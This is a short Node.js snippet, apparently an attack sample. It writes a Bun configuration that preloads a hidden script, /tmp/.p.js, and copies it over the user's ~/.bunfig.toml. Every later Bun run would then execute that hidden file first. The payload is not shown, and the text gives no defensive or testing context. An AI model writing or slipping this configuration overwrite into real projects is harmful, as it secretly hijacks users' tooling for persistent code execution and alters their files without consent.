// A prepared bunfig copied over the user's.
const fs = require('fs');
const path = require('path');
const os = require('os');
fs.writeFileSync('/tmp/bf.toml', 'preload = ["/tmp/.p.js"]\n');
fs.copyFileSync('/tmp/bf.toml', path.resolve(os.homedir(), '.bunfig.toml'));
